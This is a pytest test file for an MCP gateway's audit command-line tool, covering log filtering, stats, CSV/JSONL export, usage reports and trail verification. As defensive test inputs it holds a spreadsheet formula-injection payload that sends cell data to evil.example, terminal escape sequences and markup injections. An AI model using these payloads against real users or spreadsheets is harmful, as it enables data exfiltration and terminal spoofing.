"""The CLI over a populated database: log filters, stats, export, usage, --json."""

from __future__ import annotations

import csv
import io
import json
import sqlite3

import pytest
from mcp_gateway.audit import chain
from mcp_gateway.audit.cli import EXIT_ERROR, parse_time
from mcp_gateway.cli import main


def run_json(capsys, *argv):
    assert main(list(argv) + ["--json"]) == 0
    return json.loads(capsys.readouterr().out)


def test_log_json_returns_rows_oldest_first(audit_db, capsys):
    rows = run_json(capsys, "audit", "log", "--db", audit_db["path"], "--limit", "1000")
    assert len(rows) == audit_db["messages"]
    assert [r["seq"] for r in rows] == sorted(r["seq"] for r in rows)
    r = rows[0]
    assert r["flow_id"] == "flow-a0" and r["consumer"] == "alice" and r["kind"] == "request"
    assert r["utc"].endswith("Z") and "payload" not in r


@pytest.mark.parametrize(
    "args, expect",
    [
        (["--consumer", "bob"], 11),
        (["--server", "10.0.0.2:9000"], 11),
        (["--server", "10.0.0.*"], 11),
        (["--tool", "search"], 10),
        (["--tool", "exfil"], 1),
        (["--method", "tools/list"], 1),
        (["--decision", "block"], 1),
        (["--consumer", "alice", "--tool", "echo"], 20),
        (["--limit", "3"], 3),
    ],
)
def test_log_filters(audit_db, capsys, args, expect):
    rows = run_json(capsys, "audit", "log", "--db", audit_db["path"], "--limit", "1000", *args)
    assert len(rows) == expect
    if "--consumer" in args:
        assert {r["consumer"] for r in rows} == {args[args.index("--consumer") + 1]}
    if "--decision" in args:
        assert rows[0]["action"] == "block" and rows[0]["refusal_code"] == -32061


def test_log_limit_keeps_the_newest(audit_db, capsys):
    rows = run_json(capsys, "audit", "log", "--db", audit_db["path"], "--limit", "2")
    assert [r["method"] for r in rows] == ["notifications/initialized", "tools/list"]


def test_log_since_until(audit_db, capsys):
    base = audit_db["base"]
    rows = run_json(
        capsys,
        "audit",
        "log",
        "--db",
        audit_db["path"],
        "--since",
        str(base + 100),
        "--until",
        str(base + 200),
    )
    assert len(rows) == 10 and {r["consumer"] for r in rows} == {"bob"}
    iso = "2026-09-21T14:16:40"  # == base + 200 (UTC)
    rows = run_json(capsys, "audit", "log", "--db", audit_db["path"], "--since", iso)
    assert rows[0]["flow_id"] == "flow-blocked"


def test_parse_time_forms():
    assert parse_time("15m", now=1000.0) == 100.0
    assert parse_time("2h", now=10_000.0) == 2800.0
    assert parse_time("1790000000") == 1790000000.0
    assert parse_time("2026-09-21T14:13:20Z") == 1790000000.0
    assert parse_time("2026-09-21T14:13:20") == 1790000000.0
    with pytest.raises(Exception, match="cannot read time"):
        parse_time("yesterday-ish")


def test_log_rich_output(audit_db, capsys):
    assert main(["audit", "log", "--db", audit_db["path"], "--decision", "block"]) == 0
    out = capsys.readouterr().out
    assert "tools/call exfil" in out and "block -32061" in out and "flow-blo" in out
    assert "tools/call echo" not in out


def test_stats(audit_db, capsys):
    s = run_json(capsys, "audit", "stats", "--db", audit_db["path"])
    assert s["messages"] == audit_db["messages"]
    assert s["requests"] == 17
    assert s["blocks"] == 1
    assert s["errors"] == 2  # one JSON-RPC error, one tool result with isError
    assert s["findings"] == 1
    assert s["findings_by_rule"] == {"aws-key": 1}
    assert s["findings_by_type"] == {"secret.aws_access_key": 1}
    assert s["sessions"] == 2
    lat = s["latency_ms"]
    assert lat["responses"] == 15
    # exact: median of 10..19 and five 100s is 17; histograms are within ~5 %
    assert lat["p50"] == pytest.approx(17, rel=0.1)
    assert lat["p95"] == pytest.approx(100, rel=0.05)
    assert lat["p99"] == pytest.approx(100, rel=0.05)
    assert s["audit_dropped"] == 0 and s["audit_refused"] == 0
    assert s["head"]["seq"] == s["head"]["head_file_seq"]
    assert s["head"]["hash"] == s["head"]["head_file_hash"]
    assert main(["audit", "stats", "--db", audit_db["path"]]) == 0
    out = capsys.readouterr().out
    assert "chain head" in out and s["head"]["hash"] in out


def test_export_jsonl_with_findings(audit_db, tmp_path, capsys):
    out = tmp_path / "out.jsonl"
    assert main(["audit", "export", "--db", audit_db["path"], "--output", str(out)]) == 0
    lines = [json.loads(line) for line in out.read_text().splitlines()]
    assert len(lines) == audit_db["messages"]
    blocked = [x for x in lines if x["flow_id"] == "flow-blocked"][0]
    assert blocked["findings_list"][0]["rule"] == "aws-key"
    assert blocked["findings_list"][0]["masked"] == "AKIA…MPLE"
    assert all("hash" in x and "utc" in x for x in lines)
    # stdout and filters
    assert main(["audit", "export", "--db", audit_db["path"], "--consumer", "alice"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 20


def test_export_filters_select_findings_by_their_message(audit_db, capsys):
    db = audit_db["path"]
    argv = ["audit", "export", "--db", db, "--table", "findings"]
    assert main([*argv, "--consumer", "bob"]) == 0
    assert [json.loads(x)["rule"] for x in capsys.readouterr().out.splitlines()] == ["aws-key"]
    # alice's messages hold no finding: none comes out (every finding did)
    assert main([*argv, "--consumer", "alice"]) == 0
    assert capsys.readouterr().out.splitlines() == []
    # a table the filters cannot select refuses them rather than export every row
    assert main(["audit", "export", "--db", db, "--table", "sessions", "--consumer", "x"]) == 2
    assert "takes no filters" in capsys.readouterr().err


def test_export_csv(audit_db, capsys, tmp_path):
    assert main(["audit", "export", "--db", audit_db["path"], "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) == audit_db["messages"]
    assert rows[0]["flow_id"] == "flow-a0" and rows[0]["consumer"] == "alice"
    out = tmp_path / "f.csv"
    rc = main(
        [
            "audit",
            "export",
            "--db",
            audit_db["path"],
            "--format",
            "csv",
            "--table",
            "findings",
            "-o",
            str(out),
            "--json",
        ]
    )
    assert rc == 0
    assert json.loads(capsys.readouterr().out)["rows"] == 1
    f = list(csv.DictReader(out.open()))
    assert f[0]["rule"] == "aws-key" and f[0]["masked"] == "AKIA…MPLE"


def test_usage(audit_db, capsys):
    rows = run_json(capsys, "usage", "--db", audit_db["path"])
    by = {(r["consumer"], r["tool"]): r for r in rows}
    alice = by[("alice", "echo")]
    assert alice["calls"] == 10 and alice["errors"] == 0 and alice["server"] == "127.0.0.1:8000"
    assert alice["p50_ms"] == pytest.approx(14, rel=0.1)
    assert alice["p95_ms"] == pytest.approx(19, rel=0.1)
    bob = by[("bob", "search")]
    assert bob["calls"] == 5 and bob["errors"] == 2 and bob["p95_ms"] == pytest.approx(100, 0.05)
    assert by[("bob", "exfil")]["blocked"] == 1
    # (an exchange without identity: named by its address, as an anonymous caller is)
    assert by[("anon:127.0.0.1", "tools/list")]["calls"] == 1


def test_usage_names_a_caller_refused_before_identification_by_its_address(tmp_path, capsys):
    # a request refused for want of a credential (auth.required) has no identity; its row
    # had no consumer, and usage listed it as "(anonymous)" beside the same caller's
    # anon:<ip> row once it was let in
    from types import SimpleNamespace

    from audit_testlib import exchange, open_writer, request
    from mcp_gateway.audit.stage import AuditStage
    from mcp_gateway.message import Exchange

    db = tmp_path / "a.db"
    w = open_writer(db)
    st = AuditStage(w)
    t = 1_700_000_000.0
    for i, addr in enumerate(("10.0.0.7:40000", "[2001:db8::5]:40001")):
        refused = Exchange(flow_id=f"r{i}", server="s:1", client_addr=addr)
        m = request(refused, 1, t=t + i)
        m.block(-32062, "unauthorized: authentication required", stage="identify")
        st.process(m)
        host = addr.rsplit(":", 1)[0].strip("[]")
        let_in = exchange(flow_id=f"a{i}", server="s:1", consumer=None, session=None)
        let_in.client_addr = addr
        let_in.identity = SimpleNamespace(consumer=f"anon:{host}", kind="anonymous")
        st.process(request(let_in, 2, t=t + i + 0.5))
    st.process(request(Exchange(flow_id="x", server="s:1"), 3, t=t + 5))  # no address at all
    assert w.close()
    rows = run_json(capsys, "usage", "--db", str(db))
    by = {r["consumer"]: (r["calls"], r["blocked"]) for r in rows}
    assert by == {"anon:10.0.0.7": (2, 1), "anon:2001:db8::5": (2, 1), None: (1, 0)}
    log = run_json(capsys, "audit", "log", "--db", str(db), "--consumer", "anon:10.0.0.7")
    assert sorted((r["flow_id"], r["identity_kind"]) for r in log) == [
        ("a0", "anonymous"),
        ("r0", None),  # not identified: no identity kind
    ]
    assert main(["usage", "--db", str(db)]) == 0
    out = capsys.readouterr().out
    assert "(anonymous)" not in out and "(unidentified)" in out


def test_usage_for_one_consumer(audit_db, capsys):
    rows = run_json(capsys, "usage", "bob", "--db", audit_db["path"])
    assert {r["consumer"] for r in rows} == {"bob"}
    assert sum(r["calls"] for r in rows) == 6
    assert main(["usage", "bob", "--db", audit_db["path"]]) == 0
    out = capsys.readouterr().out
    assert "search" in out and "alice" not in out


def test_usage_tool_filter_takes_a_glob(audit_db, capsys):
    # as every other filter does (README: "Filters take exact values or globs")
    rows = run_json(capsys, "usage", "--db", audit_db["path"], "--tool", "sea*")
    assert {r["tool"] for r in rows} == {"search"} and sum(r["calls"] for r in rows) == 5
    rows = run_json(capsys, "usage", "--db", audit_db["path"], "--tool", "tools/*")
    assert {r["tool"] for r in rows} == {"tools/list"}
    rows = run_json(capsys, "usage", "--db", audit_db["path"], "--tool", "search")
    assert {r["tool"] for r in rows} == {"search"}


def test_metadata_for_datasette(audit_db, capsys):
    md = run_json(capsys, "audit", "metadata", "--db", audit_db["path"])
    db = md["databases"]["audit"]
    assert "recent_blocks" in db["queries"] and "messages" in db["tables"]


def test_canned_queries_run(audit_db):
    import sqlite3

    from mcp_gateway.audit.datasette import QUERIES

    conn = sqlite3.connect(audit_db["path"])
    for q in QUERIES.values():
        params = {"flow_id": "flow-a0"} if ":flow_id" in q["sql"] else {}
        conn.execute(q["sql"], params).fetchall()  # raises on a broken query
    tool_calls = conn.execute(QUERIES["tool_calls"]["sql"]).fetchall()
    assert len(tool_calls) == 16


def test_commands_fail_cleanly_on_a_missing_db(tmp_path, capsys):
    for cmd in (["audit", "log"], ["audit", "stats"], ["audit", "export"], ["usage"]):
        assert main([*cmd, "--db", str(tmp_path / "none.db")]) == EXIT_ERROR
        assert "no audit database" in capsys.readouterr().err


def test_default_db_from_environment(monkeypatch, audit_db, capsys):
    monkeypatch.setenv("MCP_GATEWAY_AUDIT_DB", audit_db["path"])
    s = run_json(capsys, "audit", "stats")
    assert s["db"] == audit_db["path"]


def test_log_by_flow_id(audit_db, capsys):
    rows = run_json(capsys, "audit", "log", "--db", audit_db["path"], "--flow", "flow-b1")
    assert [(r["kind"], r["name"]) for r in rows] == [("request", "search"), ("result", "search")]


def test_log_by_flow_id_as_the_table_shows_it(audit_db, capsys):
    # the table prints a flow id's first 8 characters: copied from there, it finds the flow
    assert main(["audit", "log", "--db", audit_db["path"]]) == 0
    assert "flow-blo" in capsys.readouterr().out
    rows = run_json(capsys, "audit", "log", "--db", audit_db["path"], "--flow", "flow-blo")
    assert {r["flow_id"] for r in rows} == {"flow-blocked"} and rows
    # an exact id is not read as a prefix of longer ones
    rows = run_json(capsys, "audit", "log", "--db", audit_db["path"], "--flow", "flow-b1")
    assert {r["flow_id"] for r in rows} == {"flow-b1"}


def test_log_limit_zero_means_all(audit_db, capsys):
    rows = run_json(capsys, "audit", "log", "--db", audit_db["path"], "--limit", "0")
    assert len(rows) == audit_db["messages"]


def test_names_from_the_wire_are_shown_as_text(tmp_path, capsys):
    """A client names its tool "[/x]" or hides a name behind a link: the log and usage views
    show the names as they are, and no control sequence reaches the terminal."""
    from audit_testlib import exchange, open_writer, request
    from mcp_gateway.audit.stage import AuditStage

    path = tmp_path / "audit.db"
    w = open_writer(path)
    st = AuditStage(w, on_full="block")
    names = ["[/x]", "[link=https://evil.example]get_weather[/link]", "t\x1b]0;pwned\x07\x1b[2J"]
    for i, name in enumerate(names):
        st.process(request(exchange(flow_id=f"f{i}", consumer="[bold]eve"), i, name=name))
    assert w.close()
    for cmd in (["audit", "log"], ["usage"]):
        assert main([*cmd, "--db", str(path)]) == 0
        out = capsys.readouterr().out
        assert "[/x]" in out and "[link=https://evil.example]get_weather[/link]" in out
        assert "[bold]eve" in out
        assert "\x1b" not in out and "\x07" not in out and "\\x1b]0;pwned" in out


def test_export_csv_neutralizes_formulas(audit_db, capsys):
    """Tool names, ids and methods are chosen by clients: a cell a spreadsheet would run
    as a formula gets a leading quote (numbers stay as they are)."""
    import sqlite3

    c = sqlite3.connect(audit_db["path"])
    c.execute(
        "UPDATE messages SET name=?, rpc_id=? WHERE seq=(SELECT min(seq) FROM messages)",
        ('=HYPERLINK("https://evil.example/?"&B2,"x")', "-5"),
    )
    c.execute(
        "UPDATE messages SET name='@SUM(1+1)', rpc_id='+1+cmd' "
        "WHERE seq=(SELECT max(seq) FROM messages)"
    )
    c.commit()
    c.close()
    assert main(["audit", "export", "--db", audit_db["path"], "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows[0]["name"] == '\'=HYPERLINK("https://evil.example/?"&B2,"x")'
    assert rows[0]["rpc_id"] == "-5"
    assert (rows[-1]["name"], rows[-1]["rpc_id"]) == ("'@SUM(1+1)", "'+1+cmd")
    for r in rows:
        assert not any(str(v).startswith(("=", "@")) for v in r.values())


def test_usage_time_out_of_range_is_a_usage_error(audit_db, capsys):
    assert main(["usage", "--db", audit_db["path"], "--since", "1e20"]) == EXIT_ERROR
    assert "out of range" in capsys.readouterr().err


def test_a_path_with_hash_or_question_mark_is_read_not_cut(audit_db, tmp_path, capsys):
    """The read-only URI held the path as it was: "#" or "?" cut it short, and SQLite
    created an empty file of the shorter name (mode=ro lost with it) and read that."""
    import shutil

    d = tmp_path / "odd#dir"
    d.mkdir()
    db = d / "a%1?.db"
    shutil.copy(audit_db["path"], db)
    shutil.copy(audit_db["path"] + ".head", str(db) + ".head")
    before = sorted(tmp_path.iterdir())
    out = run_json(capsys, "audit", "verify", "--db", str(db))
    assert out["ok"] and out["counts"]["messages"] == audit_db["messages"]
    assert sorted(tmp_path.iterdir()) == before  # nothing created ("odd" once)


def _unopenable_read_write(monkeypatch):
    """sqlite3 as on a read-only mount: a WAL database opened with mode=ro fails unless
    immutable (its -shm cannot be created)."""
    import sqlite3

    from mcp_gateway.audit import cli

    real = sqlite3.connect

    def connect(target, *a, **kw):
        if kw.get("uri") and "immutable=1" not in str(target):
            raise sqlite3.OperationalError("unable to open database file")
        return real(target, *a, **kw)

    monkeypatch.setattr(cli.sqlite3, "connect", connect)


def test_a_database_on_a_read_only_mount_is_read(audit_db, capsys, monkeypatch):
    """An archived trail on read-only media, or one in a directory the auditor may not
    write: `cannot read the database (unable to open database file)`, exit 2."""
    _unopenable_read_write(monkeypatch)
    out = run_json(capsys, "audit", "verify", "--db", audit_db["path"])
    assert out["ok"] and out["counts"]["messages"] == audit_db["messages"]
    rows = run_json(capsys, "audit", "log", "--db", audit_db["path"], "--limit", "0")
    assert len(rows) == audit_db["messages"]


def test_a_read_only_database_with_rows_in_its_wal_says_what_to_do(audit_db, capsys, monkeypatch):
    """Immutable would not see the rows still in the -wal file: no half answer."""
    with open(audit_db["path"] + "-wal", "wb") as f:
        f.write(b"\0" * 32)
    _unopenable_read_write(monkeypatch)
    assert main(["audit", "verify", "--db", audit_db["path"]]) == EXIT_ERROR
    assert "copy the database with its -wal file" in capsys.readouterr().err


def test_a_database_in_a_directory_the_reader_cannot_write_is_read(audit_db, capsys):
    import os
    import shutil

    if os.geteuid() == 0:
        pytest.skip("root can write anywhere")
    d = os.path.join(os.path.dirname(audit_db["path"]), "ro")
    os.mkdir(d)
    db = os.path.join(d, "a.db")
    shutil.copy(audit_db["path"], db)
    shutil.copy(audit_db["path"] + ".head", db + ".head")
    os.chmod(d, 0o500)
    try:
        out = run_json(capsys, "audit", "verify", "--db", db)
        assert out["ok"]
    finally:
        os.chmod(d, 0o700)


def test_export_to_an_unwritable_output_is_one_line_not_a_traceback(audit_db, tmp_path, capsys):
    for bad in (tmp_path / "no" / "such" / "dir" / "x.jsonl", tmp_path):
        rc = main(["audit", "export", "--db", audit_db["path"], "-o", str(bad)])
        assert rc == 2
        err = capsys.readouterr().err
        assert err.startswith("mcp-gateway audit: cannot write --output") and err.count("\n") == 1


def test_export_refuses_to_write_over_the_trail_itself(audit_db, capsys):
    db = audit_db["path"]
    before = open(db, "rb").read()
    head = chain.head_path(db)
    head_before = open(head, "rb").read()
    for target in (db, head):
        assert main(["audit", "export", "--db", db, "-o", target]) == 2
        assert "the audit trail's own file" in capsys.readouterr().err
    assert open(db, "rb").read() == before and open(head, "rb").read() == head_before
    assert main(["audit", "verify", "--db", db]) == 0


def _into_a_closed_pipe(*argv) -> tuple[int, str]:
    """Run the CLI with its stdout a pipe whose reader is already gone (`| head -1` once
    head has its line): the exit status and stderr."""
    import os
    import subprocess
    import sys

    import mcp_gateway

    env = dict(os.environ, PYTHONPATH=os.path.dirname(os.path.dirname(mcp_gateway.__file__)))
    r, w = os.pipe()
    os.close(r)
    try:
        p = subprocess.run(
            [sys.executable, "-m", "mcp_gateway.cli", *argv],
            stdout=w,
            stderr=subprocess.PIPE,
            text=True,
            env=env,
            timeout=120,
        )
    finally:
        os.close(w)
    return p.returncode, p.stderr


def test_verify_into_a_closed_pipe_keeps_its_answer(audit_db):
    # rich ends the process with exit 1 on a closed stdout: `audit verify | head -1` (or
    # `| grep -q intact`) of an intact trail exited 1, "chain broken"
    p = audit_db["path"]
    assert _into_a_closed_pipe("audit", "verify", "--db", p) == (0, "")
    rc, err = _into_a_closed_pipe("audit", "log", "--db", p, "--limit", "0")
    assert (rc, err) == (0, "")
    conn = sqlite3.connect(p)
    conn.execute("UPDATE messages SET consumer='mallory' WHERE seq=3")
    conn.commit()
    conn.close()
    assert _into_a_closed_pipe("audit", "verify", "--db", p)[0] == 1


def test_verify_of_a_deleted_trail_into_a_closed_pipe_keeps_its_answer(audit_db):
    # the database gone while its head file records rows: "chain broken" (1), but into a
    # closed pipe (`| head -1`) the report met it first and the answer became 0, "intact"
    import os

    p = audit_db["path"]
    assert _into_a_closed_pipe("audit", "verify", "--db", p)[0] == 0
    os.remove(p)
    assert os.path.exists(p + ".head")
    assert _into_a_closed_pipe("audit", "verify", "--db", p)[0] == 1
    assert _into_a_closed_pipe("audit", "verify", "--db", p, "--json")[0] == 1


def test_filters_that_can_match_nothing_by_mistake_are_refused(audit_db, capsys):
    # `--decision blocked` matched nothing and said "no matching messages", as if nothing
    # had been blocked; `--limit -1` listed everything
    p = audit_db["path"]
    for argv in (["--decision", "blocked"], ["--limit", "-1"], ["--decision", "BLOCK"]):
        with pytest.raises(SystemExit) as e:
            main(["audit", "log", "--db", p, *argv])
        assert e.value.code == 2
    err = capsys.readouterr().err
    assert "unknown decision 'blocked': the gateway records pass, redact, block, drop" in err
    assert "-1 is negative" in err
    assert len(run_json(capsys, "audit", "log", "--db", p, "--decision", "b*")) == 1
    assert len(run_json(capsys, "audit", "log", "--db", p, "--decision", "block")) == 1


def test_verify_against_a_head_file_that_is_not_there_cannot_verify(audit_db, capsys, tmp_path):
    # an explicit --head naming no file (a copy kept off the machine, its path mistyped)
    # exited 1, "chain broken", for an intact trail
    p = audit_db["path"]
    rc = main(["audit", "verify", "--db", p, "--head", str(tmp_path / "nope.head")])
    assert rc == EXIT_ERROR
    assert f"no head file at {tmp_path / 'nope.head'}" in capsys.readouterr().err
    assert main(["audit", "verify", "--db", p, "--head", chain.head_path(p)]) == 0


def test_log_follow_prints_each_new_matching_message(audit_db, capsys, monkeypatch):
    # there was no way to watch the trail as it is written (tail -f): `audit log` again
    # and again, or a Datasette page reloaded
    from audit_testlib import exchange, open_writer, request
    from mcp_gateway.audit import cli as audit_cli
    from mcp_gateway.audit.stage import AuditStage

    p = audit_db["path"]
    looks = []

    def sleep(_s):
        looks.append(_s)
        if len(looks) == 1:
            w = open_writer(p)
            st = AuditStage(w)
            st.process(request(exchange(flow_id="new-1", consumer="bob"), 7, name="deploy"))
            st.process(request(exchange(flow_id="new-2", consumer="alice"), 8, name="echo"))
            m = request(exchange(flow_id="new-3", consumer="bob"), 9, name="drop_db")
            m.block(-32063, "forbidden by mcp-gateway policy", stage="policy")
            st.process(m)
            assert w.close()
        elif len(looks) == 3:
            raise KeyboardInterrupt

    monkeypatch.setattr(audit_cli, "_wait", sleep)
    argv = ["audit", "log", "--db", p, "--consumer", "bob", "--limit", "1", "--follow"]
    assert main([*argv, "--json"]) == 0
    rows = [json.loads(x) for x in capsys.readouterr().out.splitlines()]
    assert [r["flow_id"] for r in rows] == ["flow-blocked", "new-1", "new-3"]
    assert rows[-1]["action"] == "block" and rows[-1]["name"] == "drop_db"
    looks.clear()
    monkeypatch.setattr(audit_cli, "_wait", lambda _s: (_ for _ in ()).throw(KeyboardInterrupt))
    assert main([*argv[:-3], "--decision", "block", "--follow"]) == 0
    out = capsys.readouterr().out.splitlines()
    assert len(out) == 2 and "drop_db" in out[-1] and "block -32063" in out[-1]


def test_usage_errors_name_the_usage_command(tmp_path, capsys):
    assert main(["usage", "--db", str(tmp_path / "none.db")]) == EXIT_ERROR
    assert capsys.readouterr().err.startswith("mcp-gateway usage: no audit database at")
